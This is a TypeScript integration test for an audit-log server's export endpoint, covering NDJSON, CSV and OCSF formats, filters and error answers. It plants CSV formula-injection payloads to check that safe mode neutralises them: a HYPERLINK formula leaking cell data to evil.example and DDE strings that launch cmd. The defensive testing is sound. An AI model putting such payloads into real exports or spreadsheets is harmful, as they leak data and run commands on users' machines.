// GET /v1/export over real HTTP (docs/exports.md): each format from a server
// listening on 127.0.0.1 with a real SQLite data directory; the CSV parsed
// back with csv-parse and formula injection neutralised in safe mode (the
// default) and kept verbatim with safe=false; every OCSF line validated
// against the OCSF 1.8.0 schema; the search's filters applied; a bad query
// answered with problem+json EXPORT_INVALID listing each problem.
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { CSV_COLUMNS } from "../../apps/server/src/export/csv-columns.js";
import { type ApiFixture, buildApiFixture } from "../api/api-fixture.js";
import { ocsfProblems } from "./ocsf-validate.js";

let f: ApiFixture;
let base: string;

/** Values a spreadsheet would run as formulas (OWASP CSV Injection), one per column they land in. */
const INJECTIONS = {
  message: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "target.name": "+1+cmd|' /C calc'!A0",
  "actor.name": "@SUM(1+1)*cmd|' /C calc'!A0",
  "context.user_agent": "\t=1+1",
  "automation.rationale": "\r=2+2",
  "target.id": "-2+3+cmd|' /C calc'!A0",
};

const injected = {
  id: "inject_1",
  action: "record.update",
  occurred_at: "2026-11-03T09:00:00.000Z",
  actor: { type: "user", id: "usr_mallory", name: INJECTIONS["actor.name"] },
  target: { type: "record", id: INJECTIONS["target.id"], name: INJECTIONS["target.name"] },
  message: INJECTIONS.message,
  context: { user_agent: INJECTIONS["context.user_agent"] },
  automation: { origin: "rule", rationale: INJECTIONS["automation.rationale"] },
  change: { before: { status: "open" }, after: { status: "=1+1" } },
};

async function get(path: string, key = f.acme.auditor): Promise<Response> {
  return fetch(`${base}${path}`, { headers: { authorization: `Bearer ${key}` } });
}

async function lines(path: string): Promise<Record<string, unknown>[]> {
  const res = await get(path);
  expect(res.status).toBe(200);
  const text = await res.text();
  return text
    .trimEnd()
    .split("\n")
    .filter((l) => l !== "")
    .map((l) => JSON.parse(l));
}

/** The ids the event search answers for a filter, in ascending order, every page. */
async function searchIds(filter: string): Promise<string[]> {
  const ids: string[] = [];
  let cursor: string | null = null;
  do {
    const page = (await (
      await get(`/v1/events?order=asc&limit=500&${filter}${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ""}`)
    ).json()) as { events: { event: { id: string } }[]; next_cursor: string | null };
    ids.push(...page.events.map((e) => e.event.id));
    cursor = page.next_cursor;
  } while (cursor);
  return ids;
}

beforeAll(async () => {
  f = await buildApiFixture({ acmeEvents: 60 });
  base = await f.app.listen({ host: "127.0.0.1", port: 0 });
  const res = await fetch(`${base}/v1/events`, {
    method: "POST",
    headers: { authorization: `Bearer ${f.acme.ingest}`, "content-type": "application/json" },
    body: JSON.stringify({ events: [injected] }),
  });
  const answer = (await res.json()) as { results?: { status: string }[] };
  if (res.status !== 200 || answer.results?.[0]?.status !== "created") {
    throw new Error(`the injection event was not created: ${JSON.stringify(answer)}`);
  }
  await f.settled();
});
afterAll(async () => {
  await f?.close();
});

describe("GET /v1/export formats", () => {
  it("keeps the verifiable bundle as the default", async () => {
    const [header] = await lines("/v1/export");
    expect(header?.format).toBe("trailproof-bundle/v2");
  });

  it("ndjson: one event view per line, the search's events in its order", async () => {
    const views = await lines("/v1/export?format=ndjson");
    const ids = await searchIds("");
    // The export is the log when it began; what came since (the export's own audit.export, the
    // search's reads) occurred later, so sorts after it.
    expect(views.length).toBeGreaterThanOrEqual(61);
    expect(views.map((v) => (v.event as { id: string }).id)).toEqual(ids.slice(0, views.length));
    for (const view of views) {
      expect(typeof view.index).toBe("number");
      expect(view.redacted).toBe(false);
    }
    expect(res(views, "inject_1").event).toMatchObject({ message: INJECTIONS.message });
  });

  it("applies the event search's filters, as parameters and as q", async () => {
    const byParam = await lines("/v1/export?format=ndjson&action=record.*");
    const expected = await searchIds("action=record.*");
    expect(byParam.map((v) => (v.event as { id: string }).id)).toEqual(expected);
    expect(expected.length).toBeGreaterThan(0);
    const byQ = await lines(`/v1/export?format=ndjson&q=${encodeURIComponent("action:record.* actor:usr_mallory")}`);
    expect(byQ.map((v) => (v.event as { id: string }).id)).toEqual(["inject_1"]);
    const desc = await lines("/v1/export?format=ndjson&action=record.*&order=desc");
    expect(desc.map((v) => (v.event as { id: string }).id)).toEqual([...expected].reverse());
  });

  it("csv: one column per documented field, parsed back, formula injection neutralised by default", async () => {
    const res = await get("/v1/export?format=csv&actor_id=usr_mallory");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
    const text = await res.text();
    // Every cell quoted in safe mode (OWASP), the header's included.
    expect(text.startsWith('"index","redacted",')).toBe(true);
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(1);
    expect(Object.keys(rows[0] ?? {})).toEqual([...CSV_COLUMNS]);
    const row = rows[0] as Record<string, string>;
    for (const [column, value] of Object.entries(INJECTIONS)) expect(row[column], column).toBe(`'${value}`);
    expect(row.id).toBe("inject_1");
    expect(row.action).toBe("record.update");
    expect(JSON.parse(row["change.before"] as string)).toEqual({ status: "open" });
    expect(JSON.parse(row["change.after"] as string)).toEqual({ status: "=1+1" });
    // No cell of the safe export starts a formula.
    for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("csv with safe=false keeps every value exactly", async () => {
    const rows = parse(await (await get("/v1/export?format=csv&safe=false&actor_id=usr_mallory")).text(), {
      columns: true,
    }) as Record<string, string>[];
    for (const [column, value] of Object.entries(INJECTIONS)) expect(rows[0]?.[column], column).toBe(value);
  });

  it("csv of the whole log has a row per ndjson line", async () => {
    const rows = parse(await (await get("/v1/export?format=csv&action=record.*")).text(), { columns: true });
    expect(rows).toHaveLength((await searchIds("action=record.*")).length);
  });

  it("ocsf: every line validates against the OCSF schema and chains origin, index and prev_index", async () => {
    const objects = await lines("/v1/export?format=ocsf");
    expect(objects.length).toBeGreaterThan(60);
    const origin = (await (await get("/v1/log/checkpoint")).text()).split("\n")[0];
    let prev: number | null = null;
    for (const object of objects) {
      expect(ocsfProblems(object), JSON.stringify(object)).toEqual([]);
      const position = (object.unmapped as { trailproof: Record<string, unknown> }).trailproof;
      expect(position.origin).toBe(origin);
      expect(position.prev_index).toBe(prev);
      expect((object.metadata as Record<string, unknown>).sequence).toBe(position.index);
      prev = position.index as number;
    }
    const filtered = await lines("/v1/export?format=ocsf&action=user.login");
    expect(filtered.every((o) => o.class_uid === 3002)).toBe(true);
  });

  it("records each export in the log with its format and filter", async () => {
    await get("/v1/export?format=csv&action=app.*");
    await f.settled();
    const page = (await (await get("/v1/events?action=audit.export&order=desc&limit=50")).json()) as {
      events: { event: { metadata?: { query?: Record<string, unknown> } } }[];
    };
    const queries = page.events.map((e) => e.event.metadata?.query);
    expect(queries).toContainEqual({ action: "app.*", format: "csv", order: "asc" });
  });
});

describe("GET /v1/export refusals", () => {
  async function problem(path: string, key?: string) {
    const res = await get(path, key);
    expect(res.headers.get("content-type")).toMatch(/^application\/problem\+json/);
    return { status: res.status, body: (await res.json()) as { code: string; problems?: { pointer: string }[] } };
  }

  it("answers a bad format, a bad safe switch and unknown parameters with EXPORT_INVALID listing each", async () => {
    const bad = await problem("/v1/export?format=xml&safe=maybe&colour=red");
    expect(bad.status).toBe(400);
    expect(bad.body.code).toBe("EXPORT_INVALID");
    const pointers = bad.body.problems?.map((p) => p.pointer) ?? [];
    expect(pointers).toEqual(
      expect.arrayContaining(["/querystring/format", "/querystring/safe", "/querystring/colour"]),
    );
  });

  it("refuses filters on the bundle and safe= on a format other than csv", async () => {
    const filtered = await problem("/v1/export?action=app.*");
    expect(filtered.body.code).toBe("EXPORT_INVALID");
    expect(filtered.body.problems?.map((p) => p.pointer)).toEqual(["/querystring/action"]);
    const safe = await problem("/v1/export?format=ndjson&safe=true");
    expect(safe.body.problems?.map((p) => p.pointer)).toEqual(["/querystring/safe"]);
  });

  it("answers a bad filter as the search does, and a viewer with 403", async () => {
    const filter = await problem("/v1/export?format=csv&from=yesterday");
    expect(filter.status).toBe(400);
    expect(filter.body.code).toBe("SEARCH_QUERY_INVALID");
    const viewer = await problem("/v1/export?format=ndjson", f.acme.viewer);
    expect(viewer.status).toBe(403);
  });
});

function res(views: Record<string, unknown>[], id: string): Record<string, unknown> {
  const found = views.find((v) => (v.event as { id: string }).id === id);
  if (!found) throw new Error(`no event ${id} in the export`);
  return found;
}
